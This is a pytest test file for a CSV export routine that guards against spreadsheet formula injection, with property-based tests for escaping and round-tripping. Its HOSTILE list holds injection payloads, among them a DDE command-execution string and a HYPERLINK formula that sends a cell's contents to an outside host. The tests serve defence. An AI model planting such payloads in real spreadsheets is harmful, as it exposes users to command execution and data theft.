"""CSV for spreadsheets and for programs."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nof1.files.export import FORMULA_STARTS, csv_of_columns, export_csv, safe_text

from .strategies import TEXT

HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "=cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    '"=1+1',
    "x;=1+1",
    "x\t=1+1",
    "x;\t @SUM(A1)",
    "x\n=1+1",
]


def cells_of(data, delimiter=","):
    """Read cells the way a spreadsheet parts them."""
    return [
        cell
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter)
        for cell in row
    ]


def is_harmless(cell):
    """Whether a spreadsheet takes a cell as text."""
    return not FORMULA_STARTS.intersection(cell[:1] + cell.lstrip()[:1])


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_run(text, delimiter):
    """Whichever separator the spreadsheet of that country uses, no cell begins like a formula."""
    data = export_csv(("note", "other"), [(text, "fine"), ("fine", text)])
    assert all(is_harmless(cell) for cell in cells_of(data, delimiter))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_program_gets_the_text_as_it_is(text):
    """`--raw` changes nothing."""
    data = export_csv(("note", "other"), [(text, "fine")], raw=True)
    assert cells_of(data) == ["note", "other", text, "fine"]
    assert not data.startswith(b"\xef\xbb\xbf")


def test_numbers_stay_numbers():
    """A score of -3 is a number by its column; the same text elsewhere is not."""
    data = export_csv(
        ("value", "note"),
        [("-3", "-3"), ("0.50", ""), (None, None), ("-3+1", "x"), ("=1", "x")],
        numeric={"value"},
    )
    assert data.decode("utf-8-sig").splitlines() == [
        "value,note",
        '-3,"\'-3"',
        "0.50,",
        ",",
        '"\'-3+1",x',
        '"\'=1",x',
    ]


def test_a_header_can_be_hostile_too():
    """Names of scores come from a protocol that may be someone else's."""
    assert cells_of(export_csv(("=1+1",), [])) == ["'=1+1"]


def test_ordinary_text_is_left_alone():
    """No apostrophe where none is needed."""
    for text in ("fine", "a-b", "3 = 3", "mail@example.org", "x; y", "Müde", ""):
        assert safe_text(text) == text


@given(st.lists(st.tuples(TEXT, TEXT), max_size=5))
def test_raw_tables_are_read_back(rows):
    """Quotes, separators and line ends of every kind survive."""
    assert cells_of(export_csv(("a", "b"), rows, raw=True)) == [
        "a",
        "b",
        *(cell for row in rows for cell in row),
    ]


@given(st.text(max_size=12).map(lambda text: text.encode("utf-8", "ignore").decode()))
def test_any_text_becomes_harmless_and_is_still_there(text):
    """Nothing but apostrophes is added."""
    safe = safe_text(text)
    assert is_harmless(safe)
    assert safe.replace("'", "") == text.replace("'", "")


@given(rows=st.lists(st.tuples(TEXT, st.sampled_from(["-3", "=1", "a;b", " 1", '"', ""]))), raw=st.booleans())
def test_a_table_by_column_is_the_same_table(rows, raw):
    """To the last byte, for a spreadsheet and for a program."""
    columns = [list(column) for column in zip(*rows, strict=True)] or [[], []]
    header = ("note", "value")
    written = csv_of_columns(header, columns, numeric={"value"}, raw=raw)
    assert written == export_csv(header, rows, numeric={"value"}, raw=raw)
